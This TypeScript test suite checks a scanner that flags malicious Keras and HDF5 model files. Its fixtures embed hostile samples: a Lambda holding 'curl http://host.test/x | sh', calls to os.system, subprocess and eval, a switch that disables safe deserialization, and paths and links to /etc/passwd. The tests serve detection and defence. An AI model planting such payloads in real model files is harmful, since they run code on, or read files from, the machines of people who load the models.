import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { joinBytes, latin1, mutations, zipBytes } from '../../weights/testing/index.ts';
import {
  base64,
  bytecode,
  CONTIGUOUS,
  EXTERNAL_FILE,
  externalLink,
  FLOATS,
  hdf5,
  json,
  scanned,
  text,
  textAttribute,
  VIRTUAL,
} from '../testing/made.ts';

const utf16 = (content: string): Uint8Array => Uint8Array.from([...content].flatMap((c) => [c.charCodeAt(0) & 255, c.charCodeAt(0) >> 8]));

const archive = (config: unknown, ...more: { name: string; data: Uint8Array }[]): Uint8Array =>
  zipBytes([{ name: 'metadata.json', data: json({ keras_version: '3.8.0' }) }, { name: 'config.json', data: json(config) }, ...more]);
const layers = (...list: unknown[]): unknown => ({ class_name: 'Sequential', config: { layers: list } });
const one = (config: object, name = 'Dense'): unknown => layers({ class_name: name, config });

/** Named so that the test's title can say which. */
const RUNS: readonly (readonly [string, unknown])[] = [
  ['a Lambda whose bytecode starts programs', one({ function: [base64(bytecode(['os', 'system'])), null, null] }, 'Lambda')],
  [
    'a Lambda whose bytecode holds a command',
    one({ function: [base64(bytecode([], ['curl http://host.test/x | sh'])), null, null] }, 'Lambda'),
  ],
  ['a Lambda whose body is no bytecode', one({ function: [base64(text('print("hello world")')), null, null] }, 'Lambda')],
  ['a Lambda whose body is no base64', one({ function: ['not base64!', null, null] }, 'Lambda')],
  [
    'a Lambda of Keras 3',
    one({ function: { class_name: '__lambda__', config: { code: base64(bytecode(['subprocess', 'run'])) } } }, 'Lambda'),
  ],
  ['a Lambda of Keras 2.13', one({ function: { class_name: '__tuple__', items: [base64(bytecode(['exec'])), null, null] } }, 'Lambda')],
  ['a Lambda in text', one({ function: 'lambda x: exec("1")' }, 'Lambda')],
  ['a lambda that is no layer', one({ activation: { class_name: '__lambda__', config: { value: base64(bytecode(['__import__'])) } } })],
  ['a module of Python', layers({ module: 'os', class_name: 'system', config: 'id' })],
  ['a module of Python in another place', one({ kernel_initializer: { module: 'subprocess', class_name: 'Popen', config: {} } })],
  ['a module of Python behind one of Keras', layers({ module: 'keras.src.utils.os', class_name: 'system', config: {} })],
  ['a function module', one({ fn_module: 'importlib', fn: 'x' })],
  ['a function that lifts the guard', layers({ module: 'keras.config', class_name: 'enable_unsafe_deserialization', config: {} })],
  ['a download', layers({ module: 'keras.utils', class_name: 'get_file', config: { origin: 'https://host.test/x' } })],
  ['another model', layers({ module: 'keras.saving', class_name: 'load_model', config: {} })],
  ['native code', layers({ module: 'tensorflow', class_name: 'load_op_library', config: {} })],
  ['a call into Python', layers({ module: 'tensorflow', class_name: 'py_function', config: {} })],
  ['a builtin', layers({ module: 'builtins', class_name: 'function', config: 'eval' })],
  [
    'a pickled PyTorch module',
    layers({ module: 'keras.layers', class_name: 'TorchModuleWrapper', config: { module: base64(latin1('\x80\x02N.')) } }),
  ],
  ['a TensorFlow program from elsewhere', one({ filepath: '/tmp/evil' }, 'TFSMLayer')],
  ['a TensorFlow program from an address', one({ filepath: 'gs://bucket/evil' }, 'TFSMLayer')],
  ['a TensorFlow operation in JSON', one({ node_def: '{"name": "a", "op": "WriteFile"}' }, 'TensorFlowOpLayer')],
  ['a raw operation', one({ function: 'raw_ops.ReadFile' }, 'TFOpLambda')],
  ['a registered callable', one({ activation: { class_name: 'X', registered_name: 'os>system' } })],
  ['a call that lifts the guard', one({ function: 'keras.config.enable_unsafe_deserialization()' }, 'Lambda')],
  ['a lambda in letters that acts', one({ function: [base64(text('lambda x: open(x)')), null, null] }, 'Lambda')],
  [
    'a function by its module around it',
    layers({ class_name: 'Dense', module: 'keras.config', config: { fn: 'enable_unsafe_deserialization' } }),
  ],
  ['words from a file of the machine', one({ vocabulary: '/etc/passwd' }, 'StringLookup')],
  ['words from an address', one({ vocabulary: 'https://host.test/words' }, 'TextVectorization')],
  [
    'the guard as an object',
    layers({ module: 'keras.src.saving.serialization_lib', class_name: 'SafeModeScope', config: { safe_mode: false } }),
  ],
  ['a download with its address in a list', one({ fn: 'keras.utils.get_file', args: ['x', ['ftp://host.test/x']] })],
  ['a function in place of a class', layers({ class_name: 'get_file', config: {} })],
  ['a builtin of no value', layers({ module: 'builtins', class_name: 'compile', config: {} })],
  ['a callable under any key', one({ my_hook: 'os.system' })],
  [
    'one inside a wrapper',
    layers({
      class_name: 'TimeDistributed',
      config: { layer: { class_name: 'Lambda', config: { function: [base64(bytecode(['popen'])), null, null] } } },
    }),
  ],
];
const TRUST: readonly (readonly [string, unknown])[] = [
  ['a Lambda of arithmetic', one({ function: [base64(bytecode(['relu'], ['twice'])), null, null] }, 'Lambda')],
  ['a Lambda by name', one({ function: 'lambda x: x * 2' }, 'Lambda')],
  ['a package whose name begins like Keras', layers({ module: 'keras_evil.layers', class_name: 'Dense', config: {} })],
  ['a package whose name ends like Keras', layers({ module: 'my.keras.layers', class_name: 'Dense', config: {} })],
  ['a class of its own', layers({ class_name: 'MyLayer', config: {} })],
  ['a registered class', layers({ module: null, class_name: 'X', registered_name: 'mypackage>X', config: {} })],
  [
    'a function of its own',
    one({ activation: { module: 'builtins', class_name: 'function', config: 'my_activation', registered_name: 'function' } }),
  ],
  ['a TensorFlow program beside it', one({ filepath: 'program' }, 'TFSMLayer')],
  ['words from a file beside it', one({ vocabulary: 'words.txt' }, 'StringLookup')],
  ['a program from an address', one({ handle: 'https://tfhub.dev/x/1' }, 'KerasLayer')],
  ['a lambda in letters where bytecode belongs', one({ function: [base64(text('lambda x: x * 2')), null, null] }, 'Lambda')],
  ['a class of another package, without a module', layers({ class_name: 'Dense', registered_name: 'my_package.Dense', config: {} })],
  ['the whole name of a function that lifts the guard', one({ metadata: { loader: 'keras.config.enable_unsafe_deserialization' } })],
];
const PLAIN: readonly (readonly [string, unknown])[] = [
  // Nothing is found by such a name without a module.
  ['a word that is the name of a function', one({ fn: 'enable_unsafe_deserialization', notes: 'about enable_unsafe_deserialization' })],
  ['layers of Keras 2', layers({ class_name: 'InputLayer', config: {} }, { class_name: 'LSTM', config: { units: 3, activation: 'tanh' } })],
  [
    'layers of Keras 3',
    layers({
      module: 'keras.layers',
      class_name: 'Conv2D',
      registered_name: null,
      config: { dtype: { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' }, registered_name: null } },
    }),
  ],
  [
    'layers of Keras Hub',
    layers({ module: 'keras_hub.src.models.gemma', class_name: 'GemmaBackbone', registered_name: 'keras_hub>GemmaBackbone', config: {} }),
  ],
  ['TensorFlow operations', layers({ class_name: 'TFOpLambda', config: { name: 'tf.math.multiply', function: 'math.multiply' } })],
  [
    'a slice',
    layers({
      module: 'keras.src.ops.numpy',
      class_name: 'GetItem',
      config: { key: { module: 'builtins', class_name: 'slice', config: {} } },
    }),
  ],
  [
    'an optimizer and a loss',
    {
      module: 'keras.src.models.sequential',
      class_name: 'Sequential',
      config: { layers: [] },
      compile_config: { optimizer: { module: 'keras.optimizers', class_name: 'Adam', config: {} }, loss: 'mse' },
    },
  ],
];

describe('a Keras archive', () => {
  test.each(RUNS)('with %s is malicious', async (_, config) => {
    expect(await scanned({ 'm.keras': archive(config) })).toMatchObject({
      verdict: 'malicious',
      rules: expect.arrayContaining(['keras-runs']) as string[],
    });
  });
  test.each(TRUST)('with %s is suspicious', async (_, config) => {
    expect(await scanned({ 'm.keras': archive(config) })).toMatchObject({
      verdict: 'suspicious',
      rules: expect.arrayContaining(['keras-code']) as string[],
    });
  });
  test.each(PLAIN)('with %s is clean', async (_, config) => {
    expect(await scanned({ 'm.keras': archive(config) })).toEqual({ verdict: 'clean', rules: [] });
  });
  test('whose configuration is padded beyond a megabyte is judged all the same', async () => {
    const config = { ...(one({ function: 'eval' }, 'Lambda') as object), padding: 'x'.repeat(3 << 20) };
    expect((await scanned({ 'm.keras': archive(config) })).rules).toContain('keras-runs');
  });
  test.each([
    [
      'numbers that JSON does not have',
      text(JSON.stringify(one({ function: 'eval' }, 'Lambda')).replace('{', '{"x": NaN, "y": [-Infinity, Infinity],')),
    ],
    ['a byte order mark', text(`\ufeff${JSON.stringify(one({ function: 'eval' }, 'Lambda'))}`)],
    ['sixteen bits a character', utf16(JSON.stringify(one({ function: 'eval' }, 'Lambda')))],
    [
      'its keys in another order',
      text('{"config":{"layers":[{"config":{"function":"eval"},"class_name":"Lambda"}]},"class_name":"Sequential"}'),
    ],
  ])('whose configuration is written with %s is judged all the same', async (_, config) => {
    const file = zipBytes([
      { name: 'metadata.json', data: json({}) },
      { name: 'config.json', data: config },
    ]);
    expect((await scanned({ 'm.keras': file })).rules).toContain('keras-runs');
  });
  test('with a program among its members is malicious', async () => {
    expect((await scanned({ 'm.keras': archive(layers(), { name: 'assets/run.SH', data: text('id') }) })).rules).toContain('keras-program');
  });
  test('without a configuration is broken', async () => {
    expect((await scanned({ 'm.keras': zipBytes([{ name: 'metadata.json', data: json({}) }]) })).rules).toEqual(['broken-file']);
  });
  test('whose weights lead into other files is malicious', async () => {
    const weights = hdf5([externalLink('w', '/etc/passwd', '/x')]);
    expect((await scanned({ 'm.keras': archive(layers(), { name: 'model.weights.h5', data: weights }) })).rules).toContain('external-path');
  });
});

describe('an HDF5 file', () => {
  test.each([
    ['behind a user block', joinBytes(new Uint8Array(512).fill(0x20), hdf5([textAttribute('model_config', JSON.stringify(RUNS[0]![1]))]))],
    ['cut off in the middle', hdf5([textAttribute('model_config', JSON.stringify(RUNS[0]![1])), textAttribute('z', 'z')]).slice(0, -30)],
  ])('%s is judged by what is in it', async (_, file) => {
    const { verdict, rules } = await scanned({ 'm.h5': file });
    expect(rules).toContain('keras-runs');
    expect(verdict).toBe('malicious');
  });
  test.each(RUNS)('with %s is malicious', async (_, config) => {
    expect((await scanned({ 'm.h5': hdf5([textAttribute('model_config', JSON.stringify(config))]) })).verdict).toBe('malicious');
  });
  test.each([
    ['links into another file', hdf5([externalLink('w', '../other.h5', '/w')])],
    ['has values in other files', hdf5([], [...FLOATS, CONTIGUOUS, EXTERNAL_FILE])],
    ['is put together from other files', hdf5([], [...FLOATS, VIRTUAL])],
  ])('that %s is malicious', async (_, file) => {
    expect(await scanned({ 'm.h5': file })).toMatchObject({
      verdict: 'malicious',
      rules: expect.arrayContaining(['external-path']) as string[],
    });
  });
  test('with plain layers and attributes is clean', async () => {
    const attributes = [textAttribute('model_config', JSON.stringify(PLAIN[0]![1])), textAttribute('backend', 'tensorflow')];
    expect(await scanned({ 'm.h5': hdf5(attributes, [...FLOATS, CONTIGUOUS]) })).toEqual({ verdict: 'clean', rules: [] });
  });
  test('with an empty attribute, as PyTables writes titles, is clean', async () => {
    // Version 3, name, a text type of one byte, a null space, no value.
    const title: readonly [number, Uint8Array] = [
      12,
      joinBytes(Uint8Array.of(3, 0, 6, 0, 8, 0, 4, 0, 1), latin1('TITLE\0'), Uint8Array.of(0x13, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 2)),
    ];
    expect(await scanned({ 'm.h5': hdf5([title]) })).toEqual({ verdict: 'clean', rules: [] });
  });
  test('whose links cannot be walked is searched for them', async () => {
    const [, link] = externalLink('w', '/etc/passwd', '/x');
    const file = joinBytes(hdf5([textAttribute('z', 'z')]).slice(0, -30), link, new Uint8Array(40));
    expect((await scanned({ 'm.h5': file })).rules).toContain('external-path');
  });
  test('is judged or refused wherever it is damaged', async () => {
    const good = hdf5(
      [textAttribute('model_config', JSON.stringify(RUNS[0]![1])), externalLink('w', 'o.h5', '/w')],
      [...FLOATS, CONTIGUOUS],
    );
    await fc.assert(
      fc.asyncProperty(mutations(good, good.length), async (damaged) => void (await scanned({ 'm.h5': damaged }))),
      { numRuns: 200 },
    );
  });
});
